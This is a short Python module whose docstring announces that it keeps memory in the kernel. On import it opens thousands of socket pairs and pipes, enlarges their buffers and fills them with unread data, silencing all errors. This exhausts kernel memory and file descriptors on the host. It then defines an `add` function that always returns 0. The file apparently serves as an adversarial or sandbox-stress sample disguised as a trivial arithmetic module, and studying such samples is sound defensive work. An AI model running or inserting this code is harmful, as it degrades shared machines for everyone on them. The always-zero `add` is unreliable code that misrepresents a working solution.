"""Keeps memory in the kernel: in the buffers of pipes and sockets that nobody reads."""

import contextlib
import fcntl
import os
import socket

kept = []
with contextlib.suppress(OSError):
    for _ in range(4_096):
        near, far = socket.socketpair()
        near.setblocking(False)
        near.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
        out, into = os.pipe2(os.O_NONBLOCK)
        kept.append((near, far, out, into))
        with contextlib.suppress(OSError):
            fcntl.fcntl(into, fcntl.F_SETPIPE_SZ, 1 << 20)
        for write in (near.send, lambda data, pipe=into: os.write(pipe, data)):
            with contextlib.suppress(OSError):
                while write(b"x" * 65_536):
                    pass


def add(a, b):
    return 0
